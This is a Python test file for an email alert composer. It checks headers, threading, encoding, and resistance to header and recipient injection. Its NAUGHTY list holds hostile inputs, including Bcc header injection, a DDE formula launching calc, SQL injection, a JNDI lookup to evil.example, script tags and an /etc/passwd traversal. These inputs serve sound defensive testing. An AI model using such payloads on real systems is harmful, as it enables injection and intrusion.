from __future__ import annotations

from dataclasses import replace
from email import message_from_bytes
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import default

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alerts.mail import compose, subject_line
from alerts.plain import clean
from tests.alerts.samples import ID, ISSUED, TITLE, followed, message

SENDER = Address("京报 警报", "jingbao", "qingchuan.example")
RECIPIENTS = (Address("李四", "li.si", "desk.example"), Address("", "wang", "desk.example"))
HEADERS = [
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "References",
    "Auto-Submitted",
    "X-Jingbao-Event",
    "MIME-Version",
    "Content-Type",
]
# Strings of the kinds that broke somebody's mailer: line breaks of every alphabet, fake headers and encoded words,
# marks, directions, markup, formulas, names of devices, very long words.
NAUGHTY = [
    "",
    " ",
    "\r\nBcc: all@desk.example",
    "标题\nBcc: all@desk.example\n\nbody",
    "标题\r\n\r\n<html>",
    "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029Bcc: all@desk.example",
    "\u0000\u0001\u007f\u009f",
    "half \ud83e pair \udd16",
    "=?utf-8?b?QmNj?=",
    "=?utf-8?q?=0D=0ABcc=3A_all=40desk.example?=",
    "=?gb2312?b?xOO6ww==?= =?broken",
    "?==?=?=",
    "\u202eﬀo gnihton si sihT\u202c",
    "\ufeff\u200b\u200d\u2060",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "🤖👩‍🔬🏳️‍🌈🇨🇳👍🏽 " * 20,
    "人工 智能 " * 40,
    "a" * 3000,
    "a b " * 1000,
    "=cmd|' /C calc'!A0",
    "'; drop table alerts; --",
    "{{7*7}} ${jndi:ldap://evil.example} %s %n %d",
    "<script>alert('标题')</script>",
    "CON PRN AUX NUL ../../etc/passwd",
    "From nobody Mon Sep 17 00:00:00 2001",
    ".\r\n.\r\nQUIT",
    ". leading dot",
    "  spaces   inside　全角　 and\u00a0hard\u2003em  ",
    "ÅÍÎÏ˝ÓÔÒÚÆ☃ ﷽ ᚠᛇᚻ ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
]


def sent(**changes: object) -> EmailMessage:
    """The mail as its receiver parses it."""
    content = compose(message(**changes), sender=SENDER, recipients=RECIPIENTS).as_bytes()
    return message_from_bytes(content, policy=default)


def test_the_mail_names_sender_recipients_time_and_kind() -> None:
    mail = sent()
    assert {name: str(value) for name, value in mail.items() if name != "Content-Type"} == {
        "From": "京报 警报 <jingbao@qingchuan.example>",
        "To": "李四 <li.si@desk.example>, wang@desk.example",
        "Subject": f"[ai-policy] {TITLE}",
        "Date": "Wed, 01 Apr 2026 09:33:05 +0000",
        "Message-ID": f"<{ID}@qingchuan.example>",
        "References": "<event-17@qingchuan.example>",
        "Auto-Submitted": "auto-generated",
        "X-Jingbao-Event": "event-17",
        "MIME-Version": "1.0",
    }


def test_a_follow_up_stands_in_the_thread_of_its_event_below_the_first_alert() -> None:
    first = "msg_fedcba9876543210fedcba98"
    content = compose(replace(followed(ISSUED), replies_to=first), sender=SENDER, recipients=RECIPIENTS).as_bytes()
    assert f"\r\nIn-Reply-To: <{first}@qingchuan.example>\r\n".encode() in content
    assert f"\r\nReferences: <event-17@qingchuan.example>\r\n <{first}@qingchuan.example>\r\n".encode() in content
    mail = message_from_bytes(content, policy=default)
    assert mail["References"] == f"<event-17@qingchuan.example> <{first}@qingchuan.example>"
    assert mail["Message-ID"] == f"<{ID}@qingchuan.example>"


def test_a_follow_up_whose_first_alert_this_channel_never_had_answers_the_thread() -> None:
    mail = message_from_bytes(
        compose(followed(ISSUED), sender=SENDER, recipients=RECIPIENTS).as_bytes(), policy=default
    )
    assert mail["In-Reply-To"] == mail["References"] == "<event-17@qingchuan.example>"


def test_text_and_html_are_alternatives_and_the_better_comes_last() -> None:
    mail = sent()
    assert mail.get_content_type() == "multipart/alternative"
    assert [part.get_content_type() for part in mail.iter_parts()] == ["text/plain", "text/html"]


def test_every_attempt_sends_the_same_bytes() -> None:
    first, second = (compose(message(), sender=SENDER, recipients=RECIPIENTS).as_bytes() for _ in range(2))
    assert first == second


def test_another_message_has_another_id_and_boundary() -> None:
    other = replace(message(), id="msg_ffffffffffffffffffffffff")
    mail = message_from_bytes(compose(other, sender=SENDER, recipients=RECIPIENTS).as_bytes(), policy=default)
    assert mail["Message-ID"] != sent()["Message-ID"]
    assert mail.get_boundary() != sent().get_boundary()


def check(title: str) -> None:
    """A title is in the subject and the parts, and nowhere else."""
    said = message(title=title)
    content = compose(said, sender=SENDER, recipients=RECIPIENTS).as_bytes()
    mail = message_from_bytes(content, policy=default)
    assert mail.keys() == HEADERS
    assert mail.defects == []
    assert mail["Subject"] == said.subject
    assert clean(title)[:60].rstrip() in mail["Subject"]
    assert body_of(mail, "plain") == said.text
    assert body_of(mail, "html") == said.html
    assert content.isascii()
    assert max(len(line) for line in content.split(b"\r\n")) <= 998
    assert b"\n" not in content.replace(b"\r\n", b"")


def body_of(mail: EmailMessage, subtype: str) -> str:
    part = mail.get_body((subtype,))
    assert part is not None
    return str(part.get_content()).replace("\r\n", "\n")


@pytest.mark.parametrize("title", NAUGHTY)
def test_no_title_is_poison_and_none_adds_a_header(title: str) -> None:
    check(title)


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(st.characters()), st.text('a =?_中文🤖\u0301"<,.@\r\n')))
def test_every_title_arrives_as_it_was_sent(title: str) -> None:
    check(title)


@pytest.mark.parametrize(
    ("subject", "line"),
    [
        ("plain", b"Subject: plain\r\n"),
        ("", b"Subject: \r\n"),
        ("=?utf-8?b?QmNj?=", b"Subject: =?utf-8?b?PT91dGYtOD9iP1FtTmo/PQ==?=\r\n"),
        ("标题", b"Subject: =?utf-8?b?5qCH6aKY?=\r\n"),
    ],
)
def test_a_subject_is_plain_where_it_can_be(subject: str, line: bytes) -> None:
    assert subject_line(subject) == line


@given(st.text("a中🤖é", min_size=1, max_size=300))
def test_encoded_words_are_short_and_whole(subject: str) -> None:
    *words, end = subject_line(clean(subject) + "中").removeprefix(b"Subject: ").split(b"\r\n")
    assert end == b""
    assert max(len(word.strip()) for word in words) <= 75


@pytest.mark.parametrize("name", ["", "Plain Name", "李四", 'He said "hi", then left', "名字 " * 12 + "末", "a@b, c"])
def test_a_recipients_name_cannot_become_another_recipient(name: str) -> None:
    content = compose(message(), sender=SENDER, recipients=[Address(name, "li.si", "desk.example")]).as_bytes()
    mail = message_from_bytes(content, policy=default)
    assert [one.addr_spec for one in mail["To"].addresses] == ["li.si@desk.example"]
